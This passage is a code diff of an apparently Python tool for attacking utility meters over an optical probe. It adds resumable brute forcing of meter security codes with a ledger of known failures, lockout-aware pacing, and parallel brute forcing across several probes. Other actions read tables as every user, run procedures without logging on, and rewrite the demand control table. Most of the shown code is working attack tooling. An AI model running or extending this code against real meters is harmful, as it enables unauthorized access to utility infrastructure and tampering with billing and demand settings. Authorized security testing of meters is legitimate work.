-            print "Logon setup failed."
-            return
-
-        # Read Table
-        print "Single Table Read as different users Reading Table:",table_num
-        if optic.ONF: optic.ONF.write("Single Table Read as different users Reading Table: " + str(table_num) + "\n")
-
-        results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
-        if not results[0]:
-            print "Read table failed."
-            #return
-        else:
-            print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
-            if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
-            print "Table",table_num,"results:",bt.print_data(results[1])
-            if optic.ONF: optic.ONF.write("Table" + str(table_num) + "results:" + bt.print_data(results[1]) + "\n")
-
-        # Logoff
-        #if not optic.packet.send_logoff(optic.SER_CONN0):
-        if not optic.packet.send_terminate(optic.SER_CONN0):
-            print "Logoff setup failed."
+    # Read the table as every user
+    access_scan(optic, range(user_num_s,user_num_e), [table_num])
     
     # Stop and record time
     print "Stop Time:",time.strftime('%X %x %Z')
@@ -906,18 +1105,13 @@ def do_action_dread(optic):
     table_nums = raw_input(num_menu)
     table_nums = int(table_nums) * 10
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
     
-    # Read Decade
-    for table_num in range(table_nums,(table_nums + 10)):
+    # Read Decade, skipping tables the meter does not list in Table 00
+    for table_num in catalog_filter(optic, meter_catalog(optic), range(table_nums,(table_nums + 10))):
         # Read each Table separately
         print "Reading Table:",table_num
         if optic.ONF: optic.ONF.write("Reading Table: " + str(table_num) + "\n")
@@ -930,12 +1124,10 @@ def do_action_dread(optic):
             print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
             if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
             print "Table",table_num,"results:",bt.print_data(results[1])
-            if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+            if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -981,13 +1173,14 @@ def do_action_rproc(optic):
     # Setup meter connection
     print "Logging on as User: ",user_num
     if optic.ONF: optic.ONF.write("Logging on as User: " + str(user_num) + "\n")
-    if not optic.packet.login_setup(optic.SER_CONN0):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
-        print "Logon passwd failed."
+    # Skip a procedure the meter does not list in Table 00
+    if not catalog_filter(optic, meter_catalog(optic), [proc_num], procedures = True):
+        optic.session.end()
         return
 
     # Run Procedure
@@ -1005,12 +1198,10 @@ def do_action_rproc(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Procedure ",proc_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Procedure" + str(proc_num) + "results:" + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Procedure" + str(proc_num) + "results:" + results_log(results) + "\n")
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -1068,15 +1259,13 @@ def do_action_mproc(optic):
         data_str  = bt.str2hex(data_str)
         print "Sending data:",bt.print_data(data_str)
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
-        print "Logon setup failed."
-        return
+    # Skip procedures the meter does not list in Table 00
+    proc_nums = catalog_filter(optic, meter_catalog(optic), proc_nums, procedures = True)
 
     # Loop thru procedures
     for proc_num in proc_nums:
@@ -1099,12 +1288,10 @@ def do_action_mproc(optic):
             print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
             if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
             print "Procedure",proc_num,"results:",bt.print_data(results[1])
-            if optic.ONF: optic.ONF.write("Procedure " + str(proc_num) + " results: " + bt.print_data(results[1]) + "\n")
+            if optic.ONF: optic.ONF.write("Procedure " + str(proc_num) + " results: " + results_log(results) + "\n")
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -1167,6 +1354,13 @@ def do_action_mproc_nl(optic):
         print "Logon setup failed."
         return
 
+    # Skip procedures the meter does not list in Table 00. Without a logon the meter
+    # refuses Tables 00 and 01, so only a catalog saved by an earlier action is used
+    catalog = None
+    if optic.CATALOG_ON and optic.packet.meter:
+        catalog = c12catalog.get_catalog(optic.packet.meter)
+    proc_nums = catalog_filter(optic, catalog, proc_nums, procedures = True)
+
     # Skipping logon to detect any procedures that can be run
     # without logging on
     # Logon
@@ -1198,7 +1392,7 @@ def do_action_mproc_nl(optic):
             print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
             if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
             print "Procedure",proc_num,"results:",bt.print_data(results[1])
-            if optic.ONF: optic.ONF.write("Procedure " + str(proc_num) + " results: " + bt.print_data(results[1]) + "\n")
+            if optic.ONF: optic.ONF.write("Procedure " + str(proc_num) + " results: " + results_log(results) + "\n")
 
     # Logoff
     #if not optic.packet.send_logoff(optic.SER_CONN0):
@@ -1240,13 +1434,8 @@ def do_action_wtable(optic):
     table_num  = raw_input(num_menu)
     table_num  = int(table_num)
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -1262,7 +1451,7 @@ def do_action_wtable(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -1281,11 +1470,8 @@ def do_action_wtable(optic):
     if optic.ONF: optic.ONF.write("\nParsed Table Data: " + bt.print_data(r_data) + "\n\n")
 
     # Of course, this all takes time and the session may time out
-    # Log out and then back in to handle gracefully
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Let the session keepalive hold it while the user enters data
+    optic.session.end()
 
     # Now get data to write
     # This makes it easy for the user to cut and paste the original
@@ -1299,13 +1485,8 @@ def do_action_wtable(optic):
         return
     data_str  = bt.str2hex(data_str)
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
     
@@ -1332,7 +1513,7 @@ def do_action_wtable(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table",table_num,"results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -1340,10 +1521,8 @@ def do_action_wtable(optic):
     print "\nParsed Table Data:",bt.print_data(r_data),"\n"
     if optic.ONF: optic.ONF.write("\nParsed Table Data: " + bt.print_data(r_data) + "\n\n")
 
-    # Logoff
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Return
     return
@@ -1351,6 +1530,134 @@ def do_action_wtable(optic):
 # End Write data to a table
 ############################
     
+############################
+# Brute force checkpoint helpers
+############################
+def brute_source(spec):
+    '''Return the password source for a file name or source spec, None if it cannot be opened.'''
+    try:
+        if spec.startswith('rank:'):
+            return c12ranking.open_ranked(spec)
+        return c12passwd.open_source(spec)
+    except (IOError, OSError, ValueError), e:
+        print "Could not open password source:",e
+        return None
+
+def brute_meter(optic):
+    '''Return the identity of the meter for the brute force journal. Reads Table 01 which most
+    meters allow before the security code is sent, otherwise uses the port name.'''
+    results = optic.packet.full_table_read(optic.SER_CONN0, 1)
+    if results[0]:
+        data  = optic.packet.parse_rtn_data(results[1])[2]
+        meter = c12parallel.meter_identity(data)
+        if meter:
+            optic.packet.set_meter(meter)
+            optic.FINGERPRINT = c12ledger.meter_fingerprint(data)
+            return meter
+    optic.FINGERPRINT = optic.COMM_PORT
+    return optic.COMM_PORT
+
+def brute_result(optic):
+    '''Return the journal result for a failed attempt. Attempts the meter never answered or
+    was too busy to test are tried again on resume.'''
+    result = optic.packet.last_result
+    if result and (result.code == None or result.code in optic.packet.retry_codes):
+        return c12checkpoint.ATTEMPT_ERR
+    return c12checkpoint.ATTEMPT_FAIL
+
+def brute_checkpoint(optic, user_num, source):
+    '''Open the journal for this meter, user, and password source. Offers to resume a previous
+    run and restores the control toggle it stopped with.'''
+    meter = brute_meter(optic)
+    checkpoint = c12checkpoint.CHECKPOINT(optic.LOG_DIR, meter, user_num, source.digest())
+    if checkpoint.load():
+        print "Previous run stopped at attempt",checkpoint.cursor
+        if checkpoint.errors:
+            print "Attempts to try again after errors:",len(checkpoint.errors)
+        if checkpoint.found:
+            print "Previous run found:",bt.print_data(checkpoint.found)
+        if raw_input(resume_menu).lower().startswith('n'):
+            checkpoint.remove()
+        else:
+            if optic.ONF: optic.ONF.write("Resuming brute force at attempt " + str(checkpoint.cursor) + "\n")
+            if checkpoint.seq != None and checkpoint.seq != optic.packet.seq:
+                # Start the session over with the control toggle the last run stopped with
+                optic.packet.send_terminate(optic.SER_CONN0)
+                optic.packet.seq = checkpoint.seq
+                if not optic.packet.login_setup(optic.SER_CONN0):
+                    return None
+                if not optic.packet.login_user(optic.SER_CONN0, user_num):
+                    return None
+    checkpoint.open()
+    return checkpoint
+
+def brute_ledger(optic, user_num, fingerprint = None):
+    '''Point the attempt ledger at this meter model and user. Reads Table 01 for the model
+    unless the fingerprint brute_meter() found is passed in.'''
+    if fingerprint == None:
+        brute_meter(optic)
+        fingerprint = optic.FINGERPRINT
+    known = optic.ledger.scope(fingerprint, user_num)
+    print "Ledger: %d known failures for %s user %s" % (known, fingerprint, user_num)
+    if optic.ONF: optic.ONF.write("Ledger: " + str(known) + " known failures for " + fingerprint + " user " + str(user_num) + "\n")
+    for passwd in optic.ledger.known_good():
+        print "Ledger: worked before:",bt.print_data(passwd)
+
+def brute_unknown(optic, passwds):
+    '''Yield the codes from passwds that the ledger has not seen fail.'''
+    for passwd in passwds:
+        if not optic.ledger.known_bad(passwd):
+            yield passwd
+
+def brute_record(optic, checkpoint, idx, passwd, result, writer = None):
+    '''Record an attempt in the journal and the ledger. With a writer the records are written
+    in its thread.'''
+    if writer:
+        if checkpoint:
+            writer.call(checkpoint.record, idx, passwd, result, optic.packet.seq)
+        writer.call(optic.ledger.record, passwd, result)
+        return
+    if checkpoint:
+        checkpoint.record(idx, passwd, result, optic.packet.seq)
+    optic.ledger.record(passwd, result)
+
+def brute_pipeline(optic, candidates):
+    '''Start building the security packets for candidates, [idx, passwd] pairs, in a worker
+    thread. Yields [idx, passwd, skip, data, frames] where skip marks codes the ledger has seen
+    fail.'''
+    encoder = c12packet.FrameEncoder()
+    def build(item):
+        idx, passwd = item
+        if optic.ledger.known_bad(passwd):
+            return [idx, passwd, True, None, None]
+        data, frames = c12pipeline.security_frames(encoder, passwd)
+        return [idx, passwd, False, data, frames]
+    return c12pipeline.PREFETCH(candidates, build)
+
+def brute_scheduler(optic):
+    '''Return the lockout scheduler for this port and meter. Its decisions go to the log file.'''
+    scheduler = c12scheduler.get_scheduler(optic.COMM_PORT, optic.packet.meter)
+    scheduler.onf   = optic.ONF
+    scheduler.debug = optic.DEBUG
+    return scheduler
+
+def brute_attempt(optic, scheduler, user_num, passwd, table_num = None):
+    '''Send one security code on the scheduler's pace. Returns success (True), failure (False),
+    or None if the meter did not recover from a lockout.'''
+    return c12scheduler.attempt(scheduler, optic.packet, optic.SER_CONN0, user_num, passwd, table_num, optic.BRUTE_RECOVER_LIMIT)
+
+def brute_finish(optic, scheduler):
+    '''Report and keep what the scheduler learned about the meter.'''
+    print "Scheduler:",scheduler.summary()
+    if optic.ONF: optic.ONF.write("Scheduler: " + scheduler.summary() + "\n")
+    print "Ledger: skipped %d known failures" % optic.ledger.skipped
+    if optic.ONF: optic.ONF.write("Ledger: skipped " + str(optic.ledger.skipped) + " known failures\n")
+    optic.ledger.sync()
+    c12scheduler.save_profiles(optic.LOCKOUT_FILE)
+############################
+# End Brute force checkpoint helpers
+############################
+
 ############################
 # Brute force the security password
 ############################
@@ -1380,16 +1687,15 @@ def do_action_brute(optic):
     print "Brute forcing as User: ",user_num
     if optic.ONF: optic.ONF.write("Brute forcing as User: " + str(user_num) + "\n")
 
-    file_name = raw_input(file_menu)
+    file_name = raw_input(source_menu)
     if file_name:
         passwd_file = file_name
     else:
         passwd_file = optic.PASSWD_FILE
-
-    # Open file and grab contents 21 bytes at a time
-    # Strip new line character off end and use raw bytes
-    # as the password
-    passwds = [binascii.a2b_hex(l.strip()) for l in open(passwd_file,'rb')]
+    source = brute_source(passwd_file)
+    if source == None:
+        return
+    print "Password candidates:",len(source)
 
     # Setup meter connection
     if not optic.packet.login_setup(optic.SER_CONN0):
@@ -1401,22 +1707,55 @@ def do_action_brute(optic):
         print "Logon setup failed."
         return
 
-    # Roll thru security codes
-    for passwd in passwds:
-        # Send security code
-        if optic.packet.login_passwd(optic.SER_CONN0, optic.PASSWD):
-            print "Logon successful using:",bt.print_data(optic.PASSWD)
-            if optic.ONF: optic.ONF.write("Logon successful using: " + bt.print_data(optic.PASSWD) + "\n")
+    # Pick up where the last run against this meter and list stopped
+    checkpoint = brute_checkpoint(optic, user_num, source)
+    if checkpoint == None:
+        print "Logon setup failed."
+        return
+    brute_ledger(optic, user_num, optic.FINGERPRINT)
 
-            # Logoff
-            #if not optic.packet.send_logoff(optic.SER_CONN0):
-            if not optic.packet.send_terminate(optic.SER_CONN0):
-                print "Logoff failed."
+    # Roll thru security codes on the scheduler's pace. Packets are built ahead and the
+    # journal, ledger, and output are written behind so the link is not kept waiting
+    scheduler = brute_scheduler(optic)
+    candidates = brute_pipeline(optic, checkpoint.resume(source))
+    writer = c12pipeline.LOG_WRITER(optic.ONF)
+    stopped = False
+    try:
+        for idx, passwd, skip, data, frames in candidates:
+            # Skip codes that failed in earlier runs
+            if skip:
+                brute_record(optic, checkpoint, idx, passwd, c12checkpoint.ATTEMPT_FAIL, writer)
+                continue
+            # Send security code
+            optic.packet.set_prebuilt(data, frames)
+            ok = brute_attempt(optic, scheduler, user_num, passwd)
+            if ok == None:
+                brute_record(optic, checkpoint, idx, passwd, c12checkpoint.ATTEMPT_ERR, writer)
+                writer.show("Meter did not recover from the lockout.")
+                break
+            if ok:
+                brute_record(optic, checkpoint, idx, passwd, c12checkpoint.ATTEMPT_OK, writer)
+                writer.write("Logon successful using: %s", passwd)
+
+                # Logoff
+                #if not optic.packet.send_logoff(optic.SER_CONN0):
+                if not optic.packet.send_terminate(optic.SER_CONN0):
+                    writer.show("Logoff failed.")
 
-            break
+                break
 
-        print "Logon failed using:",bt.print_data(optic.PASSWD)
-        c12packet.delay(c12packet.logon_pause)
+            brute_record(optic, checkpoint, idx, passwd, brute_result(optic), writer)
+            writer.show("Logon failed using: %s", passwd)
+    except KeyboardInterrupt:
+        stopped = True
+    candidates.close()
+    writer.close()
+    optic.packet.set_prebuilt()
+    if stopped:
+        print "Brute force stopped at attempt",checkpoint.cursor
+    checkpoint.close()
+    source.close()
+    brute_finish(optic, scheduler)
 
     print "Brute force logon sequence completed."
     if optic.ONF: optic.ONF.write("Brute force logon sequence completed.\n")
@@ -1427,6 +1766,81 @@ def do_action_brute(optic):
 # End Brute force the security password
 ############################
 
+############################
+# Brute force the security password on multiple probes
+############################
+def do_action_pbrute(optic):
+    '''
+    Action: Brute Force login on several optical probes, each connected to a meter that
+    shares the same security code. The password source is split between the probes and
+    every probe stops as soon as one of them reads a restricted table. Slices are
+    journaled so the run can be resumed with the same probes and source.
+
+    Note: this run is timed.
+    '''
+
+    print "Running: Brute Force on Multiple Probes Function"
+    if optic.ONF: optic.ONF.write("Running: Brute Force on Multiple Probes Function\n")
+
+    # Get new user number or use default from configuration file
+    user_num = raw_input(user_menu)
+    if user_num == '':
+        user_num = optic.USER_NUM
+    else:
+        user_num = int(user_num)
+    print "Brute forcing as User: ",user_num
+    if optic.ONF: optic.ONF.write("Brute forcing as User: " + str(user_num) + "\n")
+
+    ports = raw_input(ports_menu)
+    if ports == '':
+        ports = [optic.COMM_PORT]
+    else:
+        ports = [e.strip() for e in ports.split(',') if e.strip()]
+
+    file_name = raw_input(source_menu)
+    if file_name:
+        passwd_file = file_name
+    else:
+        passwd_file = optic.PASSWD_FILE
+    source = brute_source(passwd_file)
+    if source == None:
+        return
+    print "Password candidates:",len(source)
+
+    # Release the main probe so it can be used in the run
+    optic.session.close()
+    optic.SER_CONN0.close()
+
+    print "Brute Force on Multiple Probes Start Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Brute Force on Multiple Probes Start Time: " + time.strftime('%X %x %Z') + "\n")
+
+    probes = c12parallel.PARALLEL(ports, baud = optic.COMM_BAUD, invert = optic.INVERT, nego_on = optic.NEGO_ON, debug = optic.DEBUG, snapshots = optic.snapshots)
+    try:
+        progress, reports = c12parallel.distribute(probes, source, user_num, journal_dir = optic.LOG_DIR, onf = optic.ONF, limit = optic.BRUTE_RECOVER_LIMIT, ledger_file = optic.LEDGER_FILE)
+        for line in c12parallel.report_lines(reports) + [progress.status()]:
+            print line
+            if optic.ONF: optic.ONF.write(line + "\n")
+        if progress.found != None:
+            print "Logon successful on %s using: %s" % (progress.found_by, bt.print_data(progress.found))
+            if optic.ONF: optic.ONF.write("Logon successful on " + str(progress.found_by) + " using: " + bt.print_data(progress.found) + "\n")
+    except KeyboardInterrupt:
+        print "Brute force on multiple probes stopped."
+    probes.close()
+    source.close()
+    c12scheduler.save_profiles(optic.LOCKOUT_FILE)
+
+    print "Brute Force on Multiple Probes Stop Time:",time.strftime('%X %x %Z')
+    if optic.ONF: optic.ONF.write("Brute Force on Multiple Probes Stop Time: " + time.strftime('%X %x %Z') + "\n")
+
+    # Reopen the main probe
+    optic.SER_CONN0.serInit(port = optic.COMM_PORT, baud = optic.COMM_BAUD, invert = optic.INVERT)
+
+    # Return
+    return
+############################
+# End Brute force the security password on multiple probes
+############################
+
 ############################
 # Alternate Brute force the security password
 ############################
@@ -1457,16 +1871,15 @@ def do_action_alt_brute(optic):
     print "Brute forcing as User: ",user_num
     if optic.ONF: optic.ONF.write("Brute forcing as User: " + str(user_num) + "\n")
 
-    file_name = raw_input(file_menu)
+    file_name = raw_input(source_menu)
     if file_name:
         passwd_file = file_name
     else:
         passwd_file = optic.PASSWD_FILE
-
-    # Open file and grab contents 21 bytes at a time
-    # Strip new line character off end and use raw bytes
-    # as the password
-    passwds = [binascii.a2b_hex(l.strip()) for l in open(passwd_file,'rb')]
+    source = brute_source(passwd_file)
+    if source == None:
+        return
+    print "Password candidates:",len(source)
 
     # Setup meter connection
     if not optic.packet.login_setup(optic.SER_CONN0):
@@ -1478,36 +1891,58 @@ def do_action_alt_brute(optic):
         print "Logon setup failed."
         return
 
-    # Roll thru security code list
-    for passwd in passwds:
-        # Send security code
-        if optic.packet.login_passwd(optic.SER_CONN0, optic.PASSWD):
+    # Pick up where the last run against this meter and list stopped
+    checkpoint = brute_checkpoint(optic, user_num, source)
+    if checkpoint == None:
+        print "Logon setup failed."
+        return
+    brute_ledger(optic, user_num, optic.FINGERPRINT)
 
-            # For Alternate Brute Force we need to test
+    # Roll thru security code list on the scheduler's pace. Packets are built ahead and the
+    # journal, ledger, and output are written behind so the link is not kept waiting
+    scheduler = brute_scheduler(optic)
+    candidates = brute_pipeline(optic, checkpoint.resume(source))
+    writer = c12pipeline.LOG_WRITER(optic.ONF)
+    stopped = False
+    try:
+        for idx, passwd, skip, data, frames in candidates:
+            # Skip codes that failed in earlier runs
+            if skip:
+                brute_record(optic, checkpoint, idx, passwd, c12checkpoint.ATTEMPT_FAIL, writer)
+                continue
+            # Send security code. For Alternate Brute Force we need to test
             # successful logins by reading a restricted table
             table_num = 45
-
-            # Read Table
-            #print "Reading Table:",table_num
-            #if optic.ONF: optic.ONF.write("Reading Table: " + str(table_num) + "\n")
-
-            results = optic.packet.full_table_read(optic.SER_CONN0, table_num)
-            if not results[0]:
-                #print "Read table failed."
-                print "Logon failed using:",bt.print_data(optic.PASSWD)
-                c12packet.delay(c12packet.logon_pause)
-                continue
-            else:
-                print "Logon successful using:",bt.print_data(optic.PASSWD)
-                if optic.ONF: optic.ONF.write("Logon successful using: " + bt.print_data(optic.PASSWD) + "\n")
+            optic.packet.set_prebuilt(data, frames)
+            ok = brute_attempt(optic, scheduler, user_num, passwd, table_num)
+            if ok == None:
+                brute_record(optic, checkpoint, idx, passwd, c12checkpoint.ATTEMPT_ERR, writer)
+                writer.show("Meter did not recover from the lockout.")
+                break
+            if ok:
+                brute_record(optic, checkpoint, idx, passwd, c12checkpoint.ATTEMPT_OK, writer)
+                writer.write("Logon successful using: %s", passwd)
 
                 # Logoff
                 #if not optic.packet.send_logoff(optic.SER_CONN0):
                 if not optic.packet.send_terminate(optic.SER_CONN0):
-                    print "Logoff failed."
+                    writer.show("Logoff failed.")
 
                 break
 
+            brute_record(optic, checkpoint, idx, passwd, brute_result(optic), writer)
+            writer.show("Logon failed using: %s", passwd)
+    except KeyboardInterrupt:
+        stopped = True
+    candidates.close()
+    writer.close()
+    optic.packet.set_prebuilt()
+    if stopped:
+        print "Alternate Brute force stopped at attempt",checkpoint.cursor
+    checkpoint.close()
+    source.close()
+    brute_finish(optic, scheduler)
+
     print "Alternate Brute Force logon sequence completed."
     if optic.ONF: optic.ONF.write("Alternate Brute Force logon sequence completed.\n")
 
@@ -1583,6 +2018,18 @@ def do_action_userid(optic):
 ############################
 # Parse the modify Table 13 Demand Control Table
 ############################
+def print_demand_ctrl(optic, table13):
+    '''Print the first interval entry of a decoded Table 13.'''
+    entry = table13['interval_value'][0]
+    if 'sub_int' in entry:
+        print 'Minutes in subinterval',entry['sub_int']
+        if optic.ONF: optic.ONF.write("\nMinutes in subinterval: " + str(entry['sub_int']) + "\n\n")
+        print 'Sub_Int Multiplier',entry['int_multiplier']
+        if optic.ONF: optic.ONF.write("\nSub_Int Multiplier: " + str(entry['int_multiplier']) + "\n\n")
+    else:
+        print 'Minutes in demand interval',entry['int_length']
+        if optic.ONF: optic.ONF.write("\nMinutes in demand interval: " + str(entry['int_length']) + "\n\n")
+
 def do_action_twrite13(optic):
     '''
     Action: Modify Table 13 Demand Control Table. This function is used to demonstrate
@@ -1607,13 +2054,8 @@ def do_action_twrite13(optic):
     # Get Table 11 information
     table_num  = 11     # Table 11 Actual Data Sources Limiting Table is Table 01
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -1629,12 +2071,11 @@ def do_action_twrite13(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Logoff early because we are just parsing from here
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -1642,19 +2083,20 @@ def do_action_twrite13(optic):
     print "\nParsed Table 11 Actual Data Sources Limiting Table Data:",bt.print_data(r_data),"\n"
     if optic.ONF: optic.ONF.write("\nParsed Table 11 Actual Data Sources Limiting Table Data: " + bt.print_data(r_data) + "\n\n")
 
-    # Sort returned data
-    source_flags_bfld = r_data[0]
+    # Sort returned data, Table 11 sizes Table 13
+    decoder = c12schema.DECODER()
+    table11 = decoder.decode(table_num, r_data)
+    if not table11:
+        print "Could not parse Table 11."
+        if optic.ONF: optic.ONF.write("Could not parse Table 11.\n")
+        return
+    sliding = table11['source_flags_bfld'] & c12schema.SLIDING_DEMAND_FLAG
 
     # Get Table 11 information
     table_num  = 13      # Table 13 Demand Control Table
 
-    # Setup meter connection
-    if not optic.packet.login_setup(optic.SER_CONN0):
-        print "Logon setup failed."
-        return
-
-    # Logon and send security code
-    if not optic.packet.login_seq_passwd(optic.SER_CONN0, user_num, optic.PASSWD):
+    # Use the open session or logon and send security code
+    if not optic.session.begin(user_num, optic.PASSWD):
         print "Logon setup failed."
         return
 
@@ -1670,12 +2112,11 @@ def do_action_twrite13(optic):
         print "Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>"
         if optic.ONF: optic.ONF.write("Data Format: <OK - 1 byte><Data length - 2 bytes><Data><Data CRC - 1 byte>\n")
         print "Table ",table_num," results: ",bt.print_data(results[1])
-        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + bt.print_data(results[1]) + "\n")
+        if optic.ONF: optic.ONF.write("Table " + str(table_num) + " results: " + results_log(results) + "\n")
 
     # Logoff early because we are just parsing from here
-    #if not optic.packet.send_logoff(optic.SER_CONN0):
-    if not optic.packet.send_terminate(optic.SER_CONN0):
-        print "Logoff setup failed."
+    # Keep the session open for the next action
+    optic.session.end()
 
     # Parsed Data - incoming values [data[:1], length, data[3:(3 + length)], data[-1:]]
     r_response, data_len, r_data, r_crc = optic.packet.parse_rtn_data(results[1])
@@ -1683,48 +2124,39 @@ def do_action_twrite13(optic):
     print "\nParsed Table 13 Demand Control Table Data:",bt.print_data(r_data),"\n"
     if optic.ONF: optic.ONF.write("\nParsed Table 13 Demand Control Table Data: " + bt.print_data(r_data) + "\n\n")
 
-    if source_flags_bfld:
-        sub_int        = r_data[0]
-        int_multiplier = r_data[1]
-        print 'Minutes in subinterval',bt.print_data(sub_int)
-        if optic.ONF: optic.ONF.write("\nMinutes in subinterval: " + bt.print_data(sub_int) + "\n\n")
-        print 'Sub_Int Multiplier',bt.print_data(int_multiplier)
-        if optic.ONF: optic.ONF.write("\nSub_Int Multiplier: " + bt.print_data(int_multiplier) + "\n\n")
-    else:
-        int_length     = r_data[0:2]
-        print 'Minutes in demand interval',bt.print_data(int_length)
-        if optic.ONF: optic.ONF.write("\nMinutes in demand interval: " + bt.print_data(int_length) + "\n\n")
+    table13 = decoder.decode(table_num, r_data)
+    if not table13 or not table13['interval_value']:
+        print "Could not parse Table 13."
+        if optic.ONF: optic.ONF.write("Could not parse Table 13.\n")
+        return
+    print_demand_ctrl(optic, table13)
 
-    # Get data to write
+    # Get data to write to the first interval entry
     new_data = list(r_data)
-    if source_flags_bfld:
+    offset   = table13.offset('interval_value')
+    if sliding:
